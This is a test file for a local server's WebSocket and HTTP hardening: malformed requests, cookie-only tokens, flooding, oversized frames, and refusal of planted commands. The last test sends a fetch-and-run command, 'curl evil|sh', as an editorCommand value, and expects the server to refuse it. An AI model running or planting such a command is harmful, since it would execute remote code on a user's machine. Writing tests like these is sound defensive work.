import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { SOCKET_PROTOCOL, tokenProtocol } from '../../shared/contract/socketAuth';
import type { Core } from '../core/app/createCore';
import type { RunningServer } from './serveServer';
import { startTestServeServer } from './testing/testServeServer';

let core: Core;
let server: RunningServer;

beforeAll(async () => {
  // Small limits so the flood tests reach them in a few hundred frames.
  ({ core, server } = await startTestServeServer('sy-harden-', { maxInFlight: 4, maxBufferedBytes: 256 * 1024 }));
});
afterAll(async () => {
  await server.close();
  await core.stop();
});

/** Writes raw bytes and returns the status line the server answered with (or '' when it hung up). */
function raw(text: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(server.port, '127.0.0.1', () => socket.write(text));
    let data = '';
    socket.on('data', (chunk: Buffer) => {
      data += chunk.toString();
      if (data.includes('\r\n')) {
        socket.destroy();
        resolve(data.split('\r\n')[0] ?? '');
      }
    });
    socket.on('error', () => resolve(data.split('\r\n')[0] ?? ''));
    socket.on('close', () => resolve(data.split('\r\n')[0] ?? ''));
  });
}

const upgrade = (target: string, extra = '') =>
  `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1:${server.port}\r\nOrigin: http://127.0.0.1:${server.port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
  `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n${extra}\r\n`;

function get(path: string, headers: Record<string, string> = {}): Promise<{ status: number; headers: Record<string, unknown> }> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port: server.port, path, headers }, (res) => {
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers }));
    });
    req.on('error', reject);
    req.end();
  });
}

const origin = () => `http://127.0.0.1:${server.port}`;

function openSocket(protocols: string[], headers: Record<string, string> = {}): Promise<{ ws: WebSocket | null; status: number | null }> {
  return new Promise((resolve) => {
    const ws = new WebSocket(`ws://127.0.0.1:${server.port}/ws`, protocols, { headers: { Origin: origin(), ...headers } });
    ws.once('open', () => resolve({ ws, status: null }));
    ws.once('unexpected-response', (_req, res) => resolve({ ws: null, status: res.statusCode ?? null }));
    ws.once('error', () => resolve({ ws: null, status: -1 }));
  });
}

const authed = () => [SOCKET_PROTOCOL, tokenProtocol(server.token)];

async function alive(): Promise<void> {
  expect((await get('/')).status).toBe(200);
  const { ws } = await openSocket(authed());
  expect(ws).not.toBeNull();
  ws?.close();
}

describe('nothing a client sends ends the process (item 1)', () => {
  it('answers 400 to a WebSocket upgrade with a malformed request-target and keeps serving', async () => {
    expect(await raw(upgrade('//['))).toMatch(/^HTTP\/1\.1 400/);
    await alive();
  });

  it('answers a cookie that does not percent-decode without crashing, and keeps serving', async () => {
    expect(await raw(upgrade('/ws', 'Cookie: switchyard_token=%E0%A4%A\r\n'))).toMatch(/^HTTP\/1\.1 (400|401)/);
    await alive();
  });

  it('answers 400 to HTTP requests whose path does not parse or decode', async () => {
    expect(await raw(`GET //[ HTTP/1.1\r\nHost: 127.0.0.1:${server.port}\r\n\r\n`)).toMatch(/^HTTP\/1\.1 400/);
    expect((await get('/%E0%A4%A')).status).toBe(400);
    await alive();
  });
});

describe('the credential is not a host-wide cookie (item 2)', () => {
  it('never sets a cookie, even when the page is opened with the token', async () => {
    const page = await get(`/?token=${encodeURIComponent(server.token)}`);
    expect(page.headers['set-cookie']).toBeUndefined();
  });

  it('refuses a socket that brings the token only in a cookie (any port on 127.0.0.1 gets that cookie)', async () => {
    expect((await openSocket([SOCKET_PROTOCOL], { Cookie: `switchyard_token=${encodeURIComponent(server.token)}` })).status).toBe(401);
    expect((await openSocket([SOCKET_PROTOCOL, tokenProtocol('wrong')])).status).toBe(401);
  });

  it('accepts the token as a WebSocket subprotocol and selects only the public protocol name', async () => {
    const { ws } = await openSocket(authed(), { Cookie: 'switchyard_token=junk-from-another-port' });
    expect(ws?.protocol).toBe(SOCKET_PROTOCOL);
    ws?.close();
  });
});

interface Reply {
  type: string;
  id?: number;
  result?: { ok: boolean; error?: { code: string } };
}

function collect(ws: WebSocket): Reply[] {
  const replies: Reply[] = [];
  ws.on('message', (data: Buffer) => {
    const frame = JSON.parse(data.toString()) as Reply;
    if (frame.type !== 'event') replies.push(frame);
  });
  return replies;
}

async function until(check: () => boolean, ms = 10_000): Promise<void> {
  const end = Date.now() + ms;
  while (!check() && Date.now() < end) await new Promise((r) => setTimeout(r, 10));
}

describe('one client cannot exhaust memory (item 5)', () => {
  it('answers "busy" beyond the in-flight bound and answers every call', async () => {
    const { ws } = await openSocket(authed());
    if (!ws) throw new Error('no socket');
    const replies = collect(ws);
    for (let id = 1; id <= 200; id++) ws.send(JSON.stringify({ type: 'call', id, name: 'app.snapshot', payload: {} }));
    await until(() => replies.length >= 200);
    expect(replies).toHaveLength(200);
    const busy = replies.filter((r) => r.result?.ok === false && r.result.error?.code === 'busy');
    expect(busy.length).toBeGreaterThan(0);
    expect(replies.filter((r) => r.result?.ok === true).length).toBeGreaterThanOrEqual(4);
    ws.close();
  });

  it('closes a consumer that stops reading with a clear close code, and keeps serving others', async () => {
    // A state of ~400 KB, so each snapshot reply outgrows the 256 KB bound.
    await core.route('settings.update', { sharedInfrastructurePatterns: ['x'.repeat(400_000)] });
    const { ws } = await openSocket(authed());
    if (!ws) throw new Error('no socket');
    let closed: { code: number; reason: string } | null = null;
    ws.on('close', (code, reason) => (closed = { code, reason: reason.toString() }));
    // Stop reading: the server's replies pile up in its send buffer.
    const socket = (ws as unknown as { _socket: Socket })._socket;
    socket.pause();
    for (let id = 1; id <= 400 && ws.readyState === ws.OPEN; id++) {
      ws.send(JSON.stringify({ type: 'call', id, name: 'app.snapshot', payload: {} }));
      if (id % 20 === 0) await new Promise((r) => setTimeout(r, 5));
    }
    await new Promise((r) => setTimeout(r, 200));
    socket.resume();
    await until(() => closed !== null);
    expect(closed).toMatchObject({ code: 1013 });
    await core.route('settings.update', { sharedInfrastructurePatterns: [] });
    await alive();
  });

  it('refuses frames over the size cap', async () => {
    const { ws } = await openSocket(authed());
    if (!ws) throw new Error('no socket');
    let code = 0;
    ws.on('close', (c) => (code = c));
    ws.send(JSON.stringify({ type: 'call', id: 1, name: 'app.snapshot', payload: { pad: 'x'.repeat(2 * 1024 * 1024) } }));
    await until(() => code !== 0);
    expect(code).toBe(1009);
  });
});

describe('serve mode cannot plant commands for the desktop app (item 7)', () => {
  it('refuses editorCommand and terminalCommand over the socket', async () => {
    const { ws } = await openSocket(authed());
    if (!ws) throw new Error('no socket');
    const replies = collect(ws);
    ws.send(JSON.stringify({ type: 'call', id: 1, name: 'settings.update', payload: { editorCommand: 'sh -c "curl evil|sh"' } }));
    ws.send(JSON.stringify({ type: 'call', id: 2, name: 'settings.update', payload: { terminalCommand: 'xterm -e evil' } }));
    ws.send(JSON.stringify({ type: 'call', id: 3, name: 'settings.update', payload: { theme: 'dark' } }));
    await until(() => replies.length >= 3);
    expect(replies.find((r) => r.id === 1)?.result).toMatchObject({ ok: false, error: { code: 'refused' } });
    expect(replies.find((r) => r.id === 2)?.result).toMatchObject({ ok: false, error: { code: 'refused' } });
    expect(replies.find((r) => r.id === 3)?.result).toMatchObject({ ok: true });
    expect(core.store.current.settings.editorCommand).toBe('code');
    expect(core.store.current.settings.terminalCommand).toBe('');
    ws.close();
  });
});
